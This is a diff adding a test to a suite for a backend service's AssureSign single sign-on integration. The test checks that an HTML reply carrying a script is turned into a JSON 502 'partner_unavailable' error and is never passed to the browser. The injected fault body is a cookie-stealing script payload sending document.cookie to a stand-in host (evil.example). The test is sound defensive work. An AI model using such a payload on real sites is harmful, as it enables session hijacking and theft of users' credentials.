@@ -68,6 +68,27 @@ test('AssureSign answering 401 to the BFF token once is renewed the same way', a
   expect(bench.calls('assuresign', '/apiUserAuthentication')).toBe(1)
 })
 
+test('AssureSign answering 200 in HTML with a script never reaches the browser: 502 partner_unavailable', async () => {
+  bench.sandbox.control.addFault({
+    party: 'assuresign',
+    path: '/authentication/sso',
+    status: 200,
+    contentType: 'text/html; charset=utf-8',
+    body: '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
+    times: 1,
+  })
+  const answer = await bench.as(ALICE).post(ASSURESIGN_SSO, {})
+  expect(answer.status).toBe(502)
+  expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8')
+  const text = await answer.text()
+  expect(text).not.toContain('<script')
+  expect(JSON.parse(text)).toMatchObject({ error: 'partner_unavailable' })
+  // Named in the log with the status and the media type; the body never.
+  expect(bench.failures()).toEqual([
+    { code: 'partner_unavailable', reason: 'assuresign: answered 200 as text/html' },
+  ])
+})
+
 test('each person gets an AssureSign login of their own, kept for their next hand-off', async () => {
   const fresh = await startTestBff(bench.sandbox)
   try {
